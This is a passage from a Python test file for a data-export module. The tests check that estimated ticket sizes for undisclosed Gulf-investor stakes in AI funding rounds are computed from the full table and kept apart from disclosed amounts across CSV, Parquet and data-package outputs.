        "3250000000",
        "13000000000",
        "allocation model v1: ($13B deal - $0 disclosed) x 50% to named investors x participant weight 1 of "
        "1; 80% interval x0.50 to x4.00 from the back-test",
    ]
    kingdom = rows["kingdom_xai_b"]  # a disclosed ticket: its amount, and no estimate
    assert kingdom["amount_usd"] == "400000000"
    assert [kingdom[column] for column in ESTIMATE_COLUMNS] == ["", "", "", ""]
    typed = pq.read_table(io.BytesIO(export.to_parquet(snap))).to_pandas().set_index("figure_id")
    assert typed.loc["qia_anthropic_f", list(ESTIMATE_COLUMNS[:3])].tolist() == [6.5e9, 3.25e9, 13e9]
    assert math.isnan(typed.loc["qia_anthropic_f", "amount_usd"])
    assert pd.isna(typed.loc["kingdom_xai_b", "estimate_method"])
    with zipfile.ZipFile(io.BytesIO(export.to_zip(snap, CREATED))) as archive:
        package = json.loads(archive.read("datapackage.json"))
    fields = package["resources"][0]["schema"]["fields"]
    assert [(f["name"], f["type"]) for f in fields[-4:]] == [
        ("ticket_estimate_usd", "number"),
        ("ticket_estimate_low_usd", "number"),
        ("ticket_estimate_high_usd", "number"),
        ("estimate_method", "string"),
    ]
    assert "never in amount_usd" in fields[-4]["description"]


def test_estimates_come_from_the_whole_row_table_not_from_the_rows_in_view(data):
    # A disclosed $600M US ticket in OpenAI's $6.6B round, outside the Gulf view: MGX's undisclosed ticket
    # shares what the round leaves after it, $6B, even though the view holds MGX's row only.
    figures = data.figures.copy()
    extra = figures[figures["figure_id"] == "kingdom_xai_b"].assign(
        figure_id="us_fund_openai",
        deal_id="openai_2024",
        part_of="openai_2024",
        investor_region="United States",
        amount_usd=600e6,
    )
    figures = pd.concat([figures, extra], ignore_index=True)
    plain = Model(1.0, 1.0, 0.0)
    in_view = GULF_US.filters.apply(figures)
    whole = export.snapshot_of_rows(in_view, GULF_US, data.version, estimates=hand_made_book(figures, plain))
    mgx = whole.rows.set_index("figure_id").loc["mgx_openai"]
    assert mgx["ticket_estimate_usd"] == 6e9 and math.isnan(mgx["amount_usd"])
    # Made from the rows in view (participations only, not their round), the round's size would be unknown.
    from_view = export.snapshot_of_rows(
        in_view, GULF_US, data.version, estimates=hand_made_book(in_view, plain)
    )
    assert from_view.rows.set_index("figure_id").loc["mgx_openai", "estimate_method"] == (
        "no estimate: deal size unknown"
    )
    # Without estimates the columns stay empty; snapshot() makes them from the whole table it is given.
    bare = export.snapshot_of_rows(in_view, GULF_US, data.version).rows
    assert bare["estimate_method"].isna().all()
    made = export.snapshot(figures, GULF_US, data.version).rows.set_index("figure_id")
    assert made.loc["mgx_openai", "estimate_method"].startswith("allocation model v1: ($6.6B deal - $600M")
